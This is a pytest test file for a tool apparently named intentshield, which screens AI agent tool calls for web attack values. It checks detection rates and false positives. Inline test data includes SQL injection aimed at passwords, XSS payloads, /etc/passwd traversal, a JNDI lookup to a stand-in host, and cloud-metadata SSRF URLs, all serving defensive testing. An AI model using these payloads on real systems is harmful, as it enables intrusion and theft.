"""Values that attack what interprets them, and ordinary values, by where they go.

``web_payloads.py`` holds attack values by family, written from public cheat sheets and vendors' documentation;
``ordinary_values.jsonl`` holds names, addresses, prose, code, URLs, files, JSON ... (composed, and sampled with a fixed
seed from READMEs, manuals, translations and the standard library of the machine they were collected on).  A third of
each, by hash, was held back while the patterns were written.
"""

from __future__ import annotations

import json
from functools import lru_cache
from typing import Any

import pytest

from intentshield import Shield
from intentshield.rules import TextRule
from intentshield.rules.catalogue import BUILT_IN
from tests.bench.web import held_back
from tests.conftest import ROOT
from tests.corpora.web_payloads import PAYLOADS

#: Family -> share that has to be stopped under ``strict``.
FLOORS = {**dict.fromkeys(PAYLOADS, 0.95), "generic": 0.9, "ldap": 0.85}


@lru_cache(maxsize=1)
def ordinary() -> list[str]:
    path = ROOT / "tests" / "corpora" / "ordinary_values.jsonl"
    return [json.loads(line)["value"] for line in path.read_text(encoding="utf-8").splitlines()]


@pytest.fixture(scope="module")
def shields(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Shield]:
    base = tmp_path_factory.mktemp("web")
    return {
        p: Shield(p, data_dir=base / p, workspace="/work/repo", home="/home/user", platform="posix", resolver=str)
        for p in ("strict", "coding", "assistant")
    }


def test_the_lists_are_large_enough() -> None:
    assert sum(len(set(values)) for values in PAYLOADS.values()) >= 400
    assert len(set(ordinary())) >= 1500
    assert not set(ordinary()) & {v for values in PAYLOADS.values() for v in values}


@pytest.mark.parametrize("held", [False, True], ids=["seen", "held-back"])
@pytest.mark.parametrize("family", sorted(PAYLOADS))
def test_attacks_are_stopped(shields: dict[str, Shield], family: str, held: bool) -> None:
    values = [v for v in PAYLOADS[family] if held_back(v) is held]
    verdicts = [shields["strict"].audit("frobnicate", {"input": v}) for v in values]
    assert all(v.path != "error" for v in verdicts)
    stopped = sum(not v.allowed for v in verdicts)
    floor = min(FLOORS[family], 1 - 1 / len(values))
    assert stopped >= floor * len(values), [x for x, v in zip(values, verdicts) if v.allowed]


@pytest.mark.parametrize("held", [False, True], ids=["seen", "held-back"])
@pytest.mark.parametrize(("profile", "key", "share"), [("strict", "input", 0.03), ("coding", "data", 0.01)])
def test_ordinary_values_pass(shields: dict[str, Shield], profile: str, key: str, share: float, held: bool) -> None:
    values = [v for v in ordinary() if held_back(v) is held]
    stopped = [v for v in values if not shields[profile].audit("frobnicate", {key: v}).allowed]
    assert len(stopped) <= share * len(values), stopped[:20]


ATTACK = "1' UNION SELECT password FROM users--"


@pytest.mark.parametrize("key", ["input", "value", "data", "q", "name", "comment", "query", "anything", "price"])
def test_strict_takes_every_key_of_a_tool_for_a_sink(shields: dict[str, Shield], key: str) -> None:
    assert shields["strict"].audit("frobnicate", {key: ATTACK}).denied


@pytest.mark.parametrize(
    ("action", "payload"),
    [
        ("Write", {"file_path": "notes.md", "content": ATTACK}),
        ("Edit", {"file_path": "a.py", "old_string": "x", "new_string": f'PAYLOAD = "{ATTACK}"'}),
        ("Grep", {"pattern": "<script>alert(1)</script>"}),
        ("WebSearch", {"query": ATTACK}),
        ("ANSWER", f"For example, {ATTACK} would show every password."),
        ("create_issue", {"title": "SQL injection", "body": ATTACK}),
        ("add_comment", {"comment": "<img src=x onerror=alert(1)>"}),
    ],
)
def test_what_is_said_or_written_is_no_value(shields: dict[str, Shield], action: str, payload: Any) -> None:
    assert not [r for r in shields["coding"].audit(action, payload).rules if r.startswith("web.")]


@pytest.mark.parametrize(
    ("action", "payload"),
    [
        ("frobnicate", {"data": ATTACK}),
        ("update_profile", {"name": "<img src=x onerror=alert(1)>"}),
        ("WebFetch", {"url": "https://example.com/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--"}),
        ("Read", {"file_path": "static/..%252f..%252f..%252fetc%252fpasswd"}),
        ("frobnicate", {"deep": [{"er": ["${jndi:ldap://evil.example/a}"]}]}),
        ("frobnicate", {"next=http://169.254.169.254/": "x"}),
    ],
)
def test_values_that_go_somewhere_are_judged_everywhere(shields: dict[str, Shield], action: str, payload: Any) -> None:
    assert not shields["coding"].audit(action, payload).allowed
    assert not shields["assistant"].audit(action, payload).allowed


def test_a_url_inside_a_value_is_inspected(shields: dict[str, Shield]) -> None:
    assert "net.metadata" in shields["coding"].audit("frobnicate", {"data": "next=http://2852039166/x"}).rules
    assert "net.local" in shields["strict"].audit("frobnicate", {"input": "next=http://localhost/x"}).rules
    assert shields["coding"].audit("frobnicate", {"data": "next=https://example.com/x"}).allowed


def test_each_family_has_a_rule_for_every_profile_and_one_for_strict() -> None:
    web = {r.id: r for r in BUILT_IN if isinstance(r, TextRule) and r.id.startswith("web.")}
    assert all(r.hears == {"passed"} for r in web.values())
    for ident, rule in web.items():
        assert (rule.profiles == {"strict"}) == ("suspected" in ident), ident
        assert ident.replace(".suspected", "").replace(".encoded", "") in web, ident


@pytest.mark.parametrize("rule", [r for r in BUILT_IN if isinstance(r, TextRule)], ids=lambda r: r.id)
def test_filters_hide_no_match(rule: TextRule) -> None:
    """A literal filter may only skip a pattern that could not match: shown on every attack and example there is."""
    from intentshield.text import Forms

    texts = [v for values in PAYLOADS.values() for v in values]
    texts += [e for _, e in rule.examples("matches") if isinstance(e, str)]
    for text in texts:
        form = Forms(text).get(rule.form)
        for literals, pattern in zip(rule.filters, rule.compiled):
            if literals and pattern.search(form):
                assert any(literal in form for literal in literals), (pattern.pattern[:60], text)
        if rule.needs and any(p.search(form) for p in rule.compiled) and rule.id.startswith("web."):
            assert any(literal in form for literal in rule.needs), text
